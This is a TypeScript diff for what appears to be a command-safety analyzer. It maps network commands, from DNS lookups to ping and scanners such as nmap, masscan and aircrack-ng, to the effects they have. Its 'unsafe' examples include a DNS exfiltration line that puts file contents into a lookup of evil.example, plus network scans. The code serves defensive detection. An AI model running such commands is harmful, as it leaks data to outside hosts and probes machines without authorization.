@@ -1,0 +1,79 @@
+/** The network: requests, other machines, names, probes, certificates. */
+import type { Effect } from "../contract/effect.ts";
+import type { KnownWord } from "../contract/reading.ts";
+import { carries, network as contact, fixed } from "./makers.ts";
+import { networkHttp } from "./network-http.ts";
+import { networkRemote } from "./network-remote.ts";
+import { openssl } from "./openssl.ts";
+import { wholly } from "./packages-effects.ts";
+import type { EffectMaker, ProgramSpec } from "./spec.ts";
+
+const hostWord = (word: KnownWord): string | null =>
+  word.value?.replace(/^@/, "").replace(/^.*@/, "").toLowerCase() ?? null;
+
+/** A question about a name tells it to whoever answers: a name that is not known may carry data. */
+const asks: EffectMaker = (use) => {
+  const words = use.operands.filter(
+    (word) => !(word.value ?? "x").startsWith("-") && !(word.value ?? "x").startsWith("+"),
+  );
+  if (words.length === 0) return [contact(null, use.operands.some(carries))];
+  return words.map((word): Effect => contact(hostWord(word), carries(word), "a name is looked up"));
+};
+
+const probe =
+  (detail: string): EffectMaker =>
+  (use) => [
+    ...use.operands
+      .filter((word) => !(word.value ?? "x").startsWith("-"))
+      .map((word): Effect => contact(hostWord(word), carries(word), detail)),
+    fixed("system", "read", detail),
+  ];
+
+export const network: readonly ProgramSpec[] = [
+  ...networkHttp,
+  ...networkRemote,
+  {
+    names: ["dig", "host", "nslookup", "drill", "whois", "delv", "avahi-resolve", "getent-hosts", "doggo", "dog"],
+    ...wholly(asks),
+    examples: {
+      safe: [],
+      unsafe: [
+        ["dig example.com", "network"],
+        ['host "$(cat x).evil.example"', "network"],
+        ["whois example.com", "network"],
+      ],
+    },
+  },
+  {
+    names: ["ping", "ping6", "traceroute", "tracepath", "mtr", "fping", "arping", "hping3"],
+    ...wholly(asks),
+    examples: { safe: [], unsafe: [["ping -c 1 example.com", "network"]] },
+  },
+  {
+    names: [
+      "nmap",
+      "masscan",
+      "zmap",
+      "rustscan",
+      "dirb",
+      "wfuzz",
+      "nuclei",
+      "arp-scan",
+      "netdiscover",
+      "enum4linux",
+      "aircrack-ng",
+      "subfinder",
+      "amass",
+      "theHarvester",
+    ],
+    ...wholly(probe("probes or attacks other machines")),
+    examples: {
+      safe: [],
+      unsafe: [
+        ["nmap -sV 10.0.0.0/24", "network"],
+        ["masscan 10.0.0.0/8", "system"],
+      ],
+    },
+  },
+  ...openssl,
+];
